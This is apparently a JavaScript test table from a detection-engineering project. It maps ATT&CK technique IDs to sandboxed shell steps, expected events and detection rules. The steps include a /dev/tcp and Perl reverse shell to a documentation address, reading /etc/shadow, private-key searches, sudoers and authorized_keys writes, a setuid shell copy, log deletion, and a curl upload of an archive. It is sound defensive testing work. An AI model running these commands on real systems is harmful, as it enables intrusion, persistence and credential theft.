/**
 * The techniques that `scripts/techniques.mjs` plays: what each runs, the events it must produce, and the shipped rules
 * that must detect it. Steps run with `sh -c` in a name space of their own, in which /tmp and the other
 * folders that are written are empty and vanish afterwards, and the only network is a loopback device.
 *
 * `perl FILE` are the programs beside this table. An expectation is an action with texts that fields of one event
 * of it hold; `*` at the end stands for any rest.
 */

/** An address for documentation (RFC 5737), which the loopback device of the name space has. */
export const remoteAddress = "203.0.113.7";

export const techniques = [
  {
    id: "T1059.004",
    name: "Unix shell connects out",
    steps: [`bash -c 'exec 3<>/dev/tcp/${remoteAddress}/4444; echo id >&3; read -r line <&3'`],
    expect: [
      { action: "exec", "process.name": "bash" },
      { action: "connection_attempted", "destination.ip": remoteAddress },
      { action: "disconnect_received", "network.transport": "tcp" },
    ],
    rules: ["shell-connects-out"],
  },
  {
    id: "T1021.004",
    name: "Terminal in a session that came in by SSH",
    steps: ["script -qec 'sh -c id' /dev/null > /dev/null"],
    expect: [{ action: "exec", "process.entry_leader.entry_meta.type": "sshd" }],
    rules: ["terminal-emulated"],
  },
  {
    id: "T1059.006",
    name: "Interpreter opens a reverse shell",
    steps: [
      `perl -MIO::Socket::INET -e '$s=IO::Socket::INET->new("${remoteAddress}:4444"); open(STDIN,"<&",$s); # socket connect dup2
        exec "/bin/sh", "-c", "exit"'`,
    ],
    expect: [{ action: "connection_attempted", "process.name": "perl*" }],
    rules: ["interpreter-reverse-shell"],
  },
  {
    id: "T1071.001",
    name: "Program in a temporary folder connects out",
    steps: [
      `cp /usr/bin/perl /tmp/update; /tmp/update -MIO::Socket::INET -e 'IO::Socket::INET->new("${remoteAddress}:4444")->close'`,
    ],
    expect: [
      { action: "creation", "file.path": "/tmp/update" },
      { action: "exec", "process.executable": "/tmp/update" },
      { action: "connection_attempted", "process.executable": "/tmp/update" },
    ],
    rules: ["temp-program-connects-out"],
  },
  {
    id: "T1571",
    name: "Server on an unusual port",
    steps: ["perl programs/server.pl"],
    expect: [
      { action: "bind" },
      { action: "listen" },
      { action: "connection_accepted", "network.direction": "ingress" },
    ],
    rules: ["interpreter-accepts-connection"],
  },
  {
    id: "T1071.004",
    name: "Data in the names of DNS look-ups",
    steps: ["perl programs/dns.pl 10"],
    expect: [
      { action: "lookup_requested" },
      { action: "lookup_result", "dns.question.name": "*.example.com" },
    ],
    rules: ["long-dns-names"],
  },
  {
    id: "T1620",
    name: "Program runs from memory",
    steps: ["perl programs/memory.pl"],
    expect: [
      { action: "memfd_create", "process.Ext.memfd.name": "payload" },
      { action: "exec", "process.Ext.memfd.name": "payload" },
    ],
    rules: ["run-from-memory"],
  },
  {
    id: "T1070.004",
    name: "Program deletes itself",
    steps: [`cp /usr/bin/perl /tmp/once; /tmp/once -e 'unlink "/tmp/once"'`],
    expect: [{ action: "deletion", "file.path": "/tmp/once" }],
    rules: ["program-deletes-itself"],
  },
  {
    id: "T1070.003",
    name: "Shell history is removed",
    steps: ["touch /root/.bash_history; rm /root/.bash_history"],
    expect: [{ action: "deletion", "file.name": ".bash_history" }],
    rules: ["shell-history-removed"],
  },
  {
    id: "T1070.002",
    name: "System log is deleted",
    steps: ["touch /var/log/auth.log; rm /var/log/auth.log"],
    expect: [{ action: "deletion", "file.path": "/var/log/auth.log" }],
    rules: ["system-log-deleted"],
  },
  {
    id: "T1222.002",
    name: "File is made executable and run",
    steps: [
      "printf '#!/bin/sh\\nexit 0\\n' > /tmp/job; cp /usr/bin/true /tmp/job2; chmod 755 /tmp/job2; /tmp/job2",
    ],
    expect: [
      { action: "attribute_change", "file.path": "/tmp/job2" },
      { action: "modification", "file.path": "/tmp/job" },
    ],
    rules: ["made-executable-then-run"],
  },
  {
    id: "T1003.008",
    name: "Password hashes are read",
    steps: ["cat /etc/shadow > /dev/null"],
    expect: [{ action: "exec", "process.args": "/etc/shadow" }],
    rules: ["shadow-file-read"],
  },
  {
    id: "T1552.004",
    name: "Private keys are searched for",
    steps: ["find /root -name 'id_rsa*'"],
    expect: [{ action: "exec", "process.name": "find" }],
    rules: ["private-key-search"],
  },
  {
    id: "T1082",
    name: "Host is surveyed",
    steps: [
      "id > /dev/null; whoami > /dev/null; uname -a > /dev/null; hostname > /dev/null; who > /dev/null; groups > /dev/null",
    ],
    expect: [{ action: "exec", "process.name": "whoami" }],
    rules: ["host-survey"],
  },
  {
    id: "T1098.004",
    name: "SSH key is added",
    steps: ["echo 'ssh-ed25519 AAAA' > /root/.ssh/authorized_keys"],
    expect: [{ action: "creation", "file.name": "authorized_keys" }],
    rules: ["authorized-keys-written"],
  },
  {
    id: "T1053.003",
    name: "Cron job is added",
    steps: ["echo '* * * * * root true' > /etc/cron.d/update"],
    expect: [{ action: "creation", "file.path": "/etc/cron.d/update" }],
    rules: ["cron-file-written"],
  },
  {
    id: "T1548.003",
    name: "Sudo rule is added",
    steps: ["echo 'nobody ALL=(ALL) NOPASSWD: ALL' > /etc/sudoers.d/nobody"],
    expect: [{ action: "creation", "file.path": "/etc/sudoers.d/nobody" }],
    rules: ["sudoers-file-written"],
  },
  {
    id: "T1548.001",
    name: "Set-user-id copy of a shell",
    steps: ["cp /bin/sh /tmp/keep; chmod 4755 /tmp/keep"],
    expect: [{ action: "attribute_change", "file.mode": "*4755" }],
    rules: ["setuid-shell-copy"],
  },
  {
    id: "T1068",
    name: "Program in a temporary folder becomes root",
    steps: [
      "cp /usr/bin/perl /tmp/raise; setpriv --reuid 65534 --regid 65534 --clear-groups --inh-caps +setuid,+setgid --ambient-caps +setuid,+setgid /tmp/raise -e '$( = 0; $< = 0; $> = 0'",
    ],
    expect: [
      { action: "uid_change", "user.id": "0", "process.executable": "/tmp/raise" },
      { action: "gid_change" },
    ],
    rules: ["temp-program-becomes-root"],
  },
  {
    id: "T1486",
    name: "Files are renamed as if encrypted",
    steps: [
      `perl -e 'for (1..12) { open F, ">", "/tmp/note$_.txt"; print F "x"; close F; rename "/tmp/note$_.txt", "/tmp/note$_.locked" }'`,
    ],
    expect: [
      { action: "rename", "file.Ext.original.extension": "txt", "file.extension": "locked" },
    ],
    rules: ["many-files-encrypted"],
  },
  {
    id: "T1496",
    name: "Miner's arguments",
    steps: [`sh -c 'exit 0' miner stratum+tcp://pool.example:3333`],
    expect: [{ action: "exec", "process.args": "stratum+tcp://*" }],
    rules: ["miner-arguments"],
  },
  {
    id: "T1505.003",
    name: "Web server runs a shell that surveys",
    steps: [
      `cp /bin/sh /usr/local/sbin/nginx; /usr/local/sbin/nginx -c "sh -c 'id; echo aWQK | base64 -d | sh'; true" > /dev/null`,
    ],
    expect: [{ action: "exec", "process.parent.name": "nginx" }],
    rules: ["survey-below-web-server", "web-server-fetches-tool"],
  },
  {
    id: "T1560.001",
    name: "Archive is made and sent",
    steps: [
      "cp /bin/true /usr/local/sbin/curl; tar -cf /tmp/take.tar -C /etc hostname; /usr/local/sbin/curl -T /tmp/take.tar http://files.example/",
    ],
    expect: [{ action: "exec", "process.args": "/tmp/take.tar" }],
    rules: ["archive-then-upload"],
  },
  {
    id: "T1055.008",
    name: "Another process is taken hold of",
    steps: ["perl programs/calls.pl ptrace"],
    expect: [{ action: "ptrace", "process.Ext.ptrace.request": "*" }],
    rules: ["interpreter-traces-process"],
  },
  {
    id: "T1055.009",
    name: "Memory is made writable and executable",
    steps: ["perl programs/calls.pl memory"],
    expect: [{ action: "mmap" }, { action: "mprotect" }, { action: "shmget" }],
    rules: ["interpreter-maps-executable-memory"],
  },
  {
    id: "T1611",
    name: "Name spaces are left and a file system is mounted",
    steps: [
      `echo $$ > /mnt/container/cgroup.procs; cp /bin/true /tmp/inner; chmod 700 /tmp/inner; /tmp/inner
       mv /tmp/inner /tmp/inner.old; rm /tmp/inner.old; touch /tmp/release_agent; echo /tmp/inner > /tmp/release_agent
       bash -c 'exec 3<>/dev/tcp/${remoteAddress}/4444' ; perl programs/calls.pl namespaces`,
    ],
    expect: [
      { action: "open", "file.name": "release_agent", "container.id": "*" },
      { action: "unshare" },
      { action: "setns" },
      { action: "mount" },
      { action: "unmount" },
      { action: "chroot" },
    ],
    rules: ["interpreter-mounts-in-own-namespace"],
  },
  {
    id: "T1014",
    name: "Kernel is programmed",
    steps: ["perl programs/calls.pl kernel"],
    expect: [
      { action: "bpf" },
      { action: "perf_event_open" },
      { action: "io_uring_setup" },
      { action: "userfaultfd" },
      { action: "keyctl" },
    ],
    rules: ["interpreter-calls-kernel-programming"],
  },
  {
    id: "T1562.001",
    name: "A process is stopped by a signal",
    steps: [
      "cp /bin/sleep /usr/local/sbin/auditd; auditd 5 & sleep 0.2; kill -9 $!; wait 2> /dev/null; true",
    ],
    expect: [{ action: "signal" }, { action: "end", "process.exit_code": "*" }],
    rules: ["security-program-killed"],
  },
  {
    id: "T1574.006",
    name: "Library is preloaded from a temporary folder",
    steps: ["touch /tmp/hook.so; LD_PRELOAD=/tmp/hook.so /bin/true 2> /dev/null"],
    expect: [{ action: "exec", "process.env_vars": "LD_PRELOAD=/tmp/hook.so" }],
    rules: ["library-preloaded-from-temp"],
  },
  {
    id: "T1036.005",
    name: "Renamed interpreter in a hidden folder",
    steps: [
      "mkdir /tmp/.cache; cp /usr/bin/perl /tmp/.cache/sshd; ln -s /tmp/.cache/sshd /tmp/.s; ln /tmp/.cache/sshd /tmp/.h; cd /tmp/.cache; ./sshd -e '$0 = \"sshd: listener\"; sleep 0'",
    ],
    expect: [
      { action: "exec", "process.executable": "/tmp/.cache/sshd" },
      { action: "link", "file.path": "/tmp/.h" },
      { action: "symlink", "file.target_path": "/tmp/.cache/sshd" },
    ],
    rules: ["system-program-name-in-hidden-folder"],
  },
  {
    id: "T1027",
    name: "Encoded command in a session of its own",
    steps: ["setsid sh -c 'echo ZWNobyBoaQo= | base64 -d | sh > /dev/null'"],
    expect: [{ action: "exec", "process.name": "base64" }, { action: "session_id_change" }],
    rules: ["decoded-text-to-shell"],
  },
];
